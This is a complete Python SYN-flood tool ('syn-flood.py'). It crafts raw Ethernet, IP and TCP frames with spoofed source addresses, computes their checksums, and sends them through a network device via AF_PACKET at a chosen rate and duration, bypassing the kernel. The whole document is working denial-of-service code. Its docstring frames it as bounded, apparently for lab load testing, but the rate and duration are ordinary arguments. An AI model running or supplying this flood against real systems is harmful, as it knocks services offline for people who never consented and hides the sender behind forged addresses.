#!/usr/bin/env python3
"""Sends SYNs from made-up addresses through a device, at a bounded rate for a bounded time.

usage: syn-flood.py DEVICE DESTINATION-MAC DESTINATION-IP PORT RATE SECONDS
Prints how many were sent. The kernel is bypassed (AF_PACKET), so nothing of it answers.
"""
import random
import socket
import struct
import sys
import time

device, mac, address, port, rate, seconds = sys.argv[1:7]
port, rate, seconds = int(port), int(rate), float(seconds)
generator = random.Random(1)


def fold(total):
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    return total


def words(data):
    return sum(struct.unpack(f"!{len(data) // 2}H", data))


def frame():
    source = bytes([198, 18 + generator.randrange(2), generator.randrange(256), 1 + generator.randrange(254)])
    destination = socket.inet_aton(address)
    options = bytes([2, 4, 5, 180, 4, 2, 8, 10]) + struct.pack("!II", generator.randrange(2**32), 0) + bytes([1, 3, 3, 7])
    tcp = struct.pack("!HHIIBBHHH", 1024 + generator.randrange(64000), port, generator.randrange(2**32), 0, (20 + len(options)) // 4 << 4, 2, 64240, 0, 0) + options
    pseudo = source + destination + struct.pack("!HH", 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", ~fold(words(pseudo) + words(tcp)) & 0xFFFF) + tcp[18:]
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), generator.randrange(65536), 0x4000, 64, 6, 0, source, destination)
    header = header[:10] + struct.pack("!H", ~fold(words(header)) & 0xFFFF) + header[12:]
    return bytes.fromhex(mac.replace(":", "")) + bytes.fromhex("020000c0ffee") + b"\x08\x00" + header + tcp


link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
link.bind((device, 0))
link.setblocking(False)
frames = [frame() for _ in range(20000)]
sent = lost = 0
begin = time.monotonic()
while True:
    elapsed = time.monotonic() - begin
    if elapsed >= seconds:
        break
    due = min(int(elapsed * rate) - sent - lost, 2000)
    for _ in range(due):
        try:
            link.send(frames[(sent + lost) % len(frames)])
            sent += 1
        except (BlockingIOError, OSError):
            # The device's queue is full: the flood is faster than anyone can take.
            lost += 1
    if due < 50:
        time.sleep(0.0005)
print(sent, lost)
